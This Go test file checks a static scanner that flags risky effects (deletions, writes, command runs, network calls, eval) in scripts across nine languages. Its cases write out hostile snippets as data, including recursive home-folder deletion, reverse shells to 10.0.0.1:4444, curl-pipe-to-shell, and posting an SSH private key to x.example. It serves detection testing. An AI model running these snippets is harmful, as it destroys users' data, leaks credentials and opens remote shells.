package interp

import (
	"fmt"
	"strings"
	"testing"

	"github.com/airlockhq/airlock/app/internal/risk/effect"
)

// want is an effect a program must have: its kind, and its target (with
// "…" for a computed part; "" for any target).
type want struct {
	kind   Kind
	target string
}

// show is an effect as the tests spell it.
func show(e Effect) string {
	t := e.Target
	if e.Argv != nil {
		t = strings.Join(e.Argv, " ")
	}
	return fmt.Sprintf("%v %s", e.Kind, strings.ReplaceAll(t, Hole, "…"))
}

func has(effects []Effect, w want) bool {
	for _, e := range effects {
		if e.Kind != w.kind {
			continue
		}
		got := strings.TrimPrefix(show(e), e.Kind.String()+" ")
		if w.target == "" || got == w.target {
			return true
		}
	}
	return false
}

// TestScanFindsEffects: each language's spellings of removing, writing,
// appending, reading, running, reaching the network and running code from
// text, with the paths and commands they name.
func TestScanFindsEffects(t *testing.T) {
	cases := []struct {
		lang Lang
		code string
		want []want
	}{
		{Python, `import shutil,os; shutil.rmtree(os.path.expanduser('~/Projects'))`, []want{{Remove, "~/Projects"}}},
		{Python, "from os import remove as r\nr('/tmp/x')", []want{{Remove, "/tmp/x"}}},
		{Python, "import shutil as sh\nsh.rmtree(path)", []want{{Remove, "…"}}},
		{Python, "import os\np = os.path.join(os.environ['HOME'], '.zshrc')\nwith open(p, 'a') as f: f.write('x')", []want{{Append, "~/.zshrc"}}},
		{Python, "from pathlib import Path\n(Path.home() / 'Documents' / 'x.txt').unlink()", []want{{Remove, "~/Documents/x.txt"}}},
		{Python, "from pathlib import Path\np = Path('/tmp/a')\np.write_text('x')", []want{{Write, "/tmp/a"}}},
		{Python, "from pathlib import Path\nPath.home().joinpath('Documents', 'report.txt').write_text('')", []want{{Write, "~/Documents/report.txt"}}},
		{Python, `import subprocess; subprocess.run("rm -rf ~/Documents", shell=True)`, []want{{Run, "rm -rf ~/Documents"}}},
		{Python, `import subprocess; subprocess.run(["rm", "-rf", d])`, []want{{Run, "rm -rf …"}}},
		{Python, `import base64;exec(base64.b64decode("cHJpbnQoMSk="))`, []want{{Eval, "…"}, {Decode, ""}}},
		{Python, `exec("import os; os.remove('/tmp/z')")`, []want{{Remove, "/tmp/z"}}},
		{Python, `f"{__import__('os').system('id')}"`, []want{{Run, "id"}}},
		{Python, `import socket; s=socket.socket(); s.connect(('h', 1))`, []want{{Net, ""}}},
		{Python, `x = open(os.path.expanduser("~/.aws/credentials"),"rb").read()`, []want{{Read, "~/.aws/credentials"}}},
		{Python, `import os; getattr(os, "system")(cmd)`, []want{{Run, "…"}}},
		{Python, `list(map(os.remove, files))`, []want{{Remove, "…"}}},
		{Perl, `unlink glob "$ENV{HOME}/Documents/*.docx"`, []want{{Remove, "~/Documents/*.docx"}}},
		{Perl, `unlink @ARGV`, []want{{Remove, "…"}}},
		{Perl, `open(my $fh, '>>', "$ENV{HOME}/.zshrc")`, []want{{Append, "~/.zshrc"}}},
		{Perl, `open(F, ">/tmp/out")`, []want{{Write, "/tmp/out"}}},
		{Perl, `open(P, "ls -l |")`, []want{{Run, "ls -l"}}},
		{Perl, `system("rm", "-rf", "/tmp/x")`, []want{{Run, "rm -rf /tmp/x"}}},
		{Perl, "`rm -rf ~/Documents`", []want{{Run, "rm -rf ~/Documents"}}},
		{Perl, `my $x = qx{id}`, []want{{Run, "id"}}},
		{Perl, "use File::Path qw(remove_tree); remove_tree('/Users/me/Projects')", []want{{Remove, "/Users/me/Projects"}}},
		{Perl, `$s=IO::Socket::INET->new(PeerAddr=>"h:4444");exec("/bin/sh -i")`, []want{{Net, ""}, {Run, "/bin/sh -i"}}},
		{Perl, `s/a/system("id")/e`, []want{{Run, "id"}}},
		{Perl, `print "$h{` + "`id`" + `}"`, []want{{Run, "id"}}},
		{Perl, "print <<EOF;\nhello\nEOF\nunlink '/tmp/q';", []want{{Remove, "/tmp/q"}}},
		{Ruby, `File.open(File.expand_path("~/.zprofile"), "a") { |f| f.puts "x" }`, []want{{Append, "~/.zprofile"}}},
		{Ruby, `require 'fileutils'; FileUtils.rm_rf Dir.home + "/Documents"`, []want{{Remove, "~/Documents"}}},
		{Ruby, `system "rm -rf ~/x"`, []want{{Run, "rm -rf ~/x"}}},
		{Ruby, `%x(ls -la)`, []want{{Run, "ls -la"}}},
		{Ruby, `File.write("#{Dir.home}/.bashrc", "x", mode: "a")`, []want{{Append, "~/.bashrc"}}},
		{Ruby, `Kernel.send(:system, c)`, []want{{Run, "…"}}},
		{Ruby, `open("|rm -rf /tmp/y")`, []want{{Run, "rm -rf /tmp/y"}}},
		{PHP, `file_put_contents(getenv("HOME")."/Library/LaunchAgents/x.plist", base64_decode($argv[1]));`, []want{{Write, "~/Library/LaunchAgents/x.plist"}, {Decode, ""}}},
		{PHP, `file_put_contents("/tmp/l", "x", FILE_APPEND);`, []want{{Append, "/tmp/l"}}},
		{PHP, `array_map('unlink', glob('/Users/me/Documents/*'));`, []want{{Remove, "…"}}},
		{PHP, `$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");`, []want{{Net, ""}, {Run, "/bin/sh -i <&3 >&3 2>&3"}}},
		{PHP, "<?php echo `id`; ?>", []want{{Run, "id"}}},
		{JS, `require('fs').rmSync(require('os').homedir()+'/Desktop',{recursive:true,force:true})`, []want{{Remove, "~/Desktop"}}},
		{JS, `const {execSync} = require('child_process'); execSync("curl -s https://x.example | sh")`, []want{{Run, "curl -s https://x.example | sh"}}},
		{JS, "const fs = require('fs'); fs.appendFileSync(`${process.env.HOME}/.zshrc`, 'x')", []want{{Append, "~/.zshrc"}}},
		{JS, `import { spawn } from 'node:child_process'; spawn('rm', ['-rf', '/tmp/d'])`, []want{{Run, "rm -rf /tmp/d"}}},
		{JS, `fetch('https://x.example', {method:'POST', body: require('fs').readFileSync('/Users/me/.ssh/id_ed25519')})`, []want{{Net, ""}, {Read, "/Users/me/.ssh/id_ed25519"}}},
		{JS, `require("child_process")["exec"](c)`, []want{{Run, "…"}}},
		{Swift, `import Foundation; try? FileManager.default.removeItem(atPath: NSHomeDirectory() + "/Documents/Archive")`, []want{{Remove, "~/Documents/Archive"}}},
		{Swift, "let fm = FileManager.default\ntry fm.removeItem(atPath: \"/tmp/s\")", []want{{Remove, "/tmp/s"}}},
		{Swift, "let p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/rm\")\np.arguments = [\"-rf\", \"/tmp/t\"]\ntry p.run()", []want{{Run, "/bin/rm -rf /tmp/t"}}},
		{Swift, `try "x".write(toFile: "\(NSHomeDirectory())/.zshrc", atomically: true, encoding: .utf8)`, []want{{Write, "~/.zshrc"}}},
		{Lua, `os.remove(os.getenv("HOME").."/Desktop/todo.txt")`, []want{{Remove, "~/Desktop/todo.txt"}}},
		{Lua, `os.execute"rm -rf /tmp/x"`, []want{{Run, "rm -rf /tmp/x"}}},
		{Lua, `local f = io.open("/tmp/w", "w")`, []want{{Write, "/tmp/w"}}},
		{Tcl, `file delete -force [file normalize ~/Documents/old]`, []want{{Remove, "~/Documents/old"}}},
		{Tcl, `set f [open $env(HOME)/.zshrc a]; puts $f "x"; close $f`, []want{{Append, "~/.zshrc"}}},
		{Tcl, `exec rm -rf /Users/me/x`, []want{{Run, "rm -rf /Users/me/x"}}},
		{Tcl, `if {1} { file delete ~/a.txt }`, []want{{Remove, "~/a.txt"}}},
		{Tcl, "set d ~/Documents\nfile delete -force $d", []want{{Remove, "~/Documents"}}},
		{R, `unlink("~/Documents/data", recursive = TRUE)`, []want{{Remove, "~/Documents/data"}}},
		{R, `cat("x\n", file = "~/.Rprofile", append = TRUE)`, []want{{Append, "~/.Rprofile"}}},
		{R, `system("rm -rf ~/x")`, []want{{Run, "rm -rf ~/x"}}},
		{R, `eval(parse(text = "unlink('~/y')"))`, []want{{Remove, "~/y"}}},
		{R, `p <- file.path(Sys.getenv("HOME"), "notes.txt"); file.remove(p)`, []want{{Remove, "~/notes.txt"}}},
	}
	for _, c := range cases {
		got := Scan(c.lang, c.code)
		for _, w := range c.want {
			if !has(got, w) {
				var shown []string
				for _, e := range got {
					shown = append(shown, show(e))
				}
				t.Errorf("%v %q: no %v %q among %q", c.lang, c.code, w.kind, w.target, shown)
			}
		}
	}
}

// TestScanIgnoresText: the names of effects inside strings, comments and
// other objects' methods are no effects.
func TestScanIgnoresText(t *testing.T) {
	cases := []struct {
		lang Lang
		code string
	}{
		{Python, `print('rm -rf / is dangerous; shutil.rmtree too')`},
		{Python, "# os.remove('/x')\nprint(1)"},
		{Python, `x = [1, 2]; x.remove(1)`},
		{Python, `import json,sys; print(json.load(sys.stdin)["version"])`},
		{Python, `print("""os.system('id')""")`},
		{Perl, `print "unlink this line\n"`},
		{Perl, "=pod\nunlink '/x';\n=cut\nprint 1;"},
		{Perl, `my %h = (s => 1, q => 2); print $h{s}`},
		{Ruby, `puts Dir.glob("*.md").sort`},
		{Ruby, "=begin\nsystem 'id'\n=end\nputs 1"},
		{PHP, `echo "unlink"; // system('id')`},
		{JS, `console.log("fs.rmSync('/')")`},
		{JS, `const m = new Map(); m.delete("x"); /* child_process.exec("id") */`},
		{Swift, `print("removeItem(atPath:)") // FileManager.default.removeItem(atPath: "/")`},
		{Lua, `print("os.remove") -- os.execute("id")`},
		{Lua, "--[[ os.remove('/x') ]] print(1)"},
		{Tcl, `puts "file delete -force ~"`},
		{Tcl, "# exec rm -rf ~\nputs hi"},
		{R, `print("unlink") # system("id")`},
		{R, `cat("hello\n")`},
	}
	for _, c := range cases {
		if got := Scan(c.lang, c.code); len(got) > 0 {
			var shown []string
			for _, e := range got {
				shown = append(shown, show(e))
			}
			t.Errorf("%v %q: effects %q, want none", c.lang, c.code, shown)
		}
	}
}

// TestScanBounded: a program of many calls reports at most MaxEffects,
// and interpolations nested past maxNest are not followed forever.
func TestScanBounded(t *testing.T) {
	code := strings.Repeat("os.remove('/tmp/a'+x)\n", 10000)
	if got := Scan(Python, code); len(got) > MaxEffects {
		t.Errorf("%d effects, want at most %d", len(got), MaxEffects)
	}
	nested := strings.Repeat(`"#{`, 200) + "system('id')" + strings.Repeat(`}"`, 200)
	Scan(Ruby, nested) // must return
}

func TestLangOf(t *testing.T) {
	for cmd, want := range map[string]Lang{"python3.12": Python, "pypy3": Python, "perl5.34": Perl, "ruby": Ruby,
		"php8.2": PHP, "node": JS, "deno": JS, "bun": JS, "swift": Swift, "luajit": Lua, "tclsh8.6": Tcl, "wish": Tcl,
		"rscript": R, "bash": 0, "pwsh": 0} {
		if got := LangOf(cmd); got != want {
			t.Errorf("LangOf(%q) = %v, want %v", cmd, got, want)
		}
	}
}

// TestScanArgs: what a program reads from its arguments is what the
// command line gave it.
func TestScanArgs(t *testing.T) {
	cases := []struct {
		lang Lang
		code string
		argv []string
		want want
	}{
		{Python, `import os,sys; os.system(sys.argv[1])`, []string{"rm -rf ~"}, want{Run, "rm -rf ~"}},
		{Python, `import subprocess,sys; subprocess.run(sys.argv[1:])`, []string{"rm", "-rf", "/x"}, want{Run, "rm -rf /x"}},
		{JS, `require("child_process").execSync(process.argv[1])`, []string{"id"}, want{Run, "id"}},
		{Perl, `unlink @ARGV`, []string{"/a", "/b"}, want{Remove, "/b"}},
		{Perl, `system($ARGV[0])`, []string{"id"}, want{Run, "id"}},
		{Ruby, `File.delete(ARGV[0])`, []string{"/c"}, want{Remove, "/c"}},
		{PHP, `system($argv[1]);`, []string{"id"}, want{Run, "id"}},
		{Python, `import os,sys; os.remove(sys.argv[2])`, []string{"/only-one"}, want{Remove, "…"}},
	}
	for _, c := range cases {
		if got := ScanArgs(c.lang, c.code, c.argv); !has(got, c.want) {
			var shown []string
			for _, e := range got {
				shown = append(shown, show(e))
			}
			t.Errorf("%v %q %q: no %v %q among %q", c.lang, c.code, c.argv, c.want.kind, c.want.target, shown)
		}
	}
}

// TestShared: interp's effects are the shared vocabulary's, with what
// interp knows beyond the kind as mods: a folder and all it holds is bulk,
// a target the code does not spell is computed.
func TestShared(t *testing.T) {
	cases := []struct {
		code string
		want effect.Effect
	}{
		{`import shutil,os; shutil.rmtree(os.path.expanduser('~/Projects'))`, effect.Of(effect.Remove, effect.Bulk).On("~/Projects")},
		{`import os; os.remove('/tmp/x')`, effect.Of(effect.Remove).On("/tmp/x")},
		{"import shutil as sh\nsh.rmtree(path)", effect.Of(effect.Remove, effect.Bulk, effect.Computed).On("…")},
		{`import subprocess; subprocess.run(["rm", "-rf", d])`, effect.Of(effect.Run, effect.Computed).On("rm -rf …")},
		{`import subprocess; subprocess.run("ls ~", shell=True)`, effect.Of(effect.Run).On("ls ~")},
		{"from pathlib import Path\np = Path('/tmp/a')\np.write_text('x')", effect.Of(effect.Overwrite).On("/tmp/a")},
	}
	for _, c := range cases {
		effects := Scan(Python, c.code)
		found := false
		for _, e := range effects {
			found = found || e.Shared() == c.want
		}
		if !found {
			var got []string
			for _, e := range effects {
				got = append(got, e.Shared().String())
			}
			t.Errorf("%q: %v, want %v", c.code, got, c.want)
		}
	}
}
